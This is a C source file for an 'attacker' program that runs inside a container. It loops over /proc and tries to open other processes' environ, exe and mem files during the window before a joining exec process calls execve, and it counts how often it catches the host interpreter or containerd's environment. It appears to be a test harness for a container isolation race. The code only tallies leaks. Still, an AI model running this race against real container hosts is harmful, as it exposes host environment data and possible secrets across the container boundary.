/* Attacker: race joining processes (exec) for their /proc files before they execve.
 * Scans /proc in a tight loop; for every other process opens environ and reads exe. A read of environ
 * without the marker the exec'd program carries (argv[2], e.g. EXEC_MARK=1), or an exe that is not
 * busybox, is a process caught before execve: the host's interpreter and containerd's environment.
 * Runs until the file argv[1] exists, then writes "environ=N exe=N mem=N seen=N" into argv[1].done. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char buf[1 << 16];

int main(int argc, char **argv) {
    if (argc < 3) { fprintf(stderr, "usage: procrace STOPFILE MARKER\n"); return 2; }
    const char *stop = argv[1], *marker = argv[2];
    size_t mlen = strlen(marker);
    long environ_leaks = 0, exe_leaks = 0, mem_leaks = 0, seen = 0;
    pid_t self = getpid();
    char path[128], target[512];
    for (unsigned long round = 0;; round++) {
        if ((round & 63) == 0 && access(stop, F_OK) == 0) break;
        DIR *d = opendir("/proc");
        if (!d) return 2;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self) continue;
            seen++;
            snprintf(path, sizeof path, "/proc/%d/environ", pid);
            int fd = open(path, O_RDONLY);
            if (fd >= 0) {
                ssize_t n = read(fd, buf, sizeof buf);
                close(fd);
                if (n > 0 && !memmem(buf, n, marker, mlen)) environ_leaks++;
            }
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t len = readlink(path, target, sizeof target - 1);
            if (len > 0) {
                target[len] = 0;
                if (!strstr(target, "busybox")) exe_leaks++;
            }
            snprintf(path, sizeof path, "/proc/%d/mem", pid);
            fd = open(path, O_RDONLY);
            if (fd >= 0) {
                snprintf(path, sizeof path, "/proc/%d/environ", pid);
                int efd = open(path, O_RDONLY);
                ssize_t n = efd >= 0 ? read(efd, buf, sizeof buf) : 0;
                if (efd >= 0) close(efd);
                if (n > 0 && !memmem(buf, n, marker, mlen)) mem_leaks++;
                close(fd);
            }
        }
        closedir(d);
    }
    char out[512];
    snprintf(out, sizeof out, "%s.done", stop);
    FILE *f = fopen(out, "w");
    if (!f) return 2;
    fprintf(f, "environ=%ld exe=%ld mem=%ld seen=%ld\n", environ_leaks, exe_leaks, mem_leaks, seen);
    fclose(f);
    return 0;
}
